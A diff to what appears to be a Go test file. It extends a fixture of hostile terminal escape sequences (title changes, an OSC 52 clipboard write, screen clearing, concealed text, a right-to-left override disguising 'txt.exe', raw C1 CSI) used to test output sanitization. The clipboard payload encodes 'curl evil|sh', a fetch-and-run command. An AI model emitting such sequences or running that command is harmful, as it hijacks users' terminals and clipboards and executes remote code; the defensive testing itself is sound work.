@@ -17,10 +17,11 @@ import (
 )
 
 // evil is what a hostile model, file or issue writes: it sets the
-// terminal's title, writes the clipboard (OSC 52), clears the screen,
-// homes and moves the cursor, conceals text, reverses its direction and
-// sends a C1 CSI.
-const evil = "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x1b[8mHIDDEN\x1b[0m\x1b[3A\u202etxt.exe\u009b2J"
+// terminal's title (OSC 0, and OSC 2 ended by ST), writes the clipboard
+// (OSC 52), clears the screen, homes and moves the cursor, conceals text,
+// reverses its direction and sends a C1 CSI, as a character and as a raw
+// byte.
+const evil = "\x1b]0;pwned\x07\x1b]2;t2\x1b\\\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x1b[8mHIDDEN\x1b[0m\x1b[3A\u202etxt.exe\u009b2J\x9b1A"
 
 // evilEntities are the same attacks as markdown character references,
 // which a markdown renderer would decode into the real characters.
